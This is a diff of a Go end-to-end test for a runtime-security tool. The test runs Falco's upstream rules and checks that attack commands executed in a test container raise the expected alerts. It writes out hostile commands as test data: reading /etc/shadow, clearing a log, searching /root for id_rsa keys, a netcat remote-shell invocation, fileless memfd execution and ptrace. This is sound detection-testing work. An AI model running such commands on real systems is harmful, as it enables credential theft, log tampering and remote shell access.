@@ -179,7 +179,7 @@ func requireTools(t *testing.T) string {
 // busyboxApplets are linked in the rootfs's /bin.
 var busyboxApplets = []string{
 	"sh", "cat", "rm", "ln", "ls", "cp", "mv", "touch", "echo", "sleep", "true",
-	"nsenter", "unshare", "dpkg", "id", "wget", "mkdir", "head",
+	"nsenter", "unshare", "dpkg", "id", "wget", "mkdir", "head", "find", "grep",
 }
 
 // attackerNames are the personalities of the attacker binary, in
@@ -307,7 +307,7 @@ func listen(t *testing.T, addr string) string {
 
 // startVigil runs `vigil run` with the embedded rules and the sensor on,
 // waits until it is ready and follows its alerts file.
-func (e *env) startVigil(bin string) {
+func (e *env) startVigil(bin string, rules ...string) {
 	t := e.t
 	alertsFile := filepath.Join(e.dir, "alerts.jsonl")
 	e.vigilLog = filepath.Join(e.dir, "vigil.log")
@@ -319,8 +319,11 @@ func (e *env) startVigil(bin string) {
 		"--data-dir", filepath.Join(e.dir, "data"), "--sensor", "on", "--hostname", "e2e-node"}
 	// VIGIL_E2E_EXTRA_RULES loads a rules file after the defaults, to
 	// trace what the sensor reports while debugging a scenario.
-	if extra := os.Getenv("VIGIL_E2E_EXTRA_RULES"); extra != "" {
+	if extra := os.Getenv("VIGIL_E2E_EXTRA_RULES"); extra != "" && len(rules) == 0 {
 		args = append(args, "-r", "embedded:", "-r", extra)
+	}
+	for _, r := range rules {
+		args = append(args, "-r", r)
 	}
 	cmd := exec.CommandContext(ctx, bin, args...)
 	cmd.Stdout, cmd.Stderr = io.Discard, logf
@@ -571,4 +574,63 @@ func describe(as []alert) string {
 		fmt.Fprintf(&b, "  %s [%s] %s\n", a.Rule, a.Source, a.Output)
 	}
 	return b.String()
+}
+
+// TestFalcoUpstreamRules runs Falco's own rules file, unchanged, through
+// vigil run and checks that real attacks in a real container raise the
+// upstream rules by their own names.
+func TestFalcoUpstreamRules(t *testing.T) {
+	busybox := requireTools(t)
+	root := moduleRoot(t)
+	falcoRules := filepath.Join(root, "..", "shared", "data", "falco", "rules", "falco_rules.yaml")
+	if _, err := os.Stat(falcoRules); err != nil {
+		t.Skipf("Falco's rules not found at %s (../shared/data beside the repository)", falcoRules)
+	}
+	dir, err := os.MkdirTemp("", "vigil-falco")
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = os.RemoveAll(dir) })
+	bin := filepath.Join(dir, "vigil")
+	goBuild(t, root, bin, "./cmd/vigil")
+	attacker := filepath.Join(dir, "attacker")
+	goBuild(t, root, attacker, "./test/runtime/attacker")
+	shellAddr := listen(t, "127.0.0.1:0")
+
+	e := &env{t: t, dir: dir}
+	e.startVigil(bin, falcoRules)
+	e.startContainer(busybox, attacker)
+	cases := []scenario{
+		{name: "sensitive-file", argv: []string{"cat", "/etc/shadow"},
+			rules: []string{"Read sensitive file untrusted"}, cmdline: "cat /etc/shadow"},
+		{name: "clear-log", argv: []string{"sh", "-c", ": > /var/log/app.log"},
+			rules: []string{"Clear Log Activities"}, cmdline: "sh -c : > /var/log/app.log"},
+		{name: "search-keys", argv: []string{"find", "/root", "-name", "id_rsa"},
+			rules: []string{"Search Private Keys or Passwords"}, cmdline: "find /root -name id_rsa"},
+		{name: "netcat-rce-and-redirect", argv: []string{"nc", shellAddr, "/bin/sh", "-c", "echo pwned"},
+			rules: []string{"Netcat Remote Code Execution in Container", "Redirect STDOUT/STDIN to Network Connection in Container"},
+			cmdline: "nc " + shellAddr + " /bin/sh -c echo pwned"},
+		// Under a shell: Falco trusts memfd execs whose parent is runc.
+		{name: "memfd", argv: []string{"sh", "-c", "memfdexec /bin/busybox true memfd-marker; true"},
+			rules: []string{"Fileless execution via memfd_create"}, cmdline: "* memfd-marker"},
+		{name: "ptrace", argv: []string{"tracer"},
+			rules: []string{"PTRACE attached to process"}, cmdline: "tracer"},
+	}
+	for _, s := range cases {
+		t.Run(s.name, func(t *testing.T) {
+			from := e.alerts.len()
+			out := e.exec(s.argv...)
+			for _, rule := range s.rules {
+				// Falco's outputs do not print container.id: match the
+				// command line the rule printed.
+				a, found := e.alerts.waitFor(from, alertWait, func(a alert) bool {
+					return a.Rule == rule && s.cmdlineOK(a.field("proc.cmdline"))
+				})
+				if !found {
+					as, _ := e.alerts.since(from)
+					t.Fatalf("no upstream %q alert with cmdline %q within %s\ncommand output:\n%s\nalerts since:\n%s",
+						rule, s.cmdline, alertWait, out, describe(as))
+				}
+				require.Equal(t, "syscall", a.Source)
+			}
+		})
+	}
 }
